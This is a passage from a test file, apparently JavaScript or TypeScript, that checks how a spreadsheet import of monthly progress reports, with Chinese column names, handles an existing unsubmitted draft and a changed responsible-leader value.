		expect(planImport(t.db, writer, MONTH, (await readImportFile('x.xlsx', same, MONTH)).rows, TODAY).notes).toEqual([]);

		const version = item.reports.find((r) => r.month === MONTH)?.version ?? null;
		saveReport(
			t.db,
			writer,
			item.id,
			MONTH,
			{ progress: '草稿里的进展', problems: '', nextSteps: '', milestonesMet: [], version, submit: false },
			ctx(),
			TODAY
		);
		const filled = await filledXlsx(code, (row, col) => {
			row.getCell(col('本月进展')).value = '文件里的进展';
			row.getCell(col('存在问题')).value = '无';
			row.getCell(col('下步打算')).value = '继续';
			row.getCell(col('责任领导')).value = '另一位领导';
		});
		const plan = planImport(t.db, writer, MONTH, (await readImportFile('x.xlsx', filled, MONTH)).rows, TODAY);
		expect(plan.issues).toEqual([]);
		expect(plan.changes.map((c) => c.code)).toEqual([code]);
		expect(plan.notes).toEqual([
			expect.objectContaining({ column: '责任领导', message: expect.stringContaining('“另一位领导”') }),
			expect.objectContaining({
				column: '本月进展',
				message: expect.stringMatching(new RegExp(`${code} 本月已有尚未提交的报告.*本月进展将换成`))
			})
		]);
	});
});
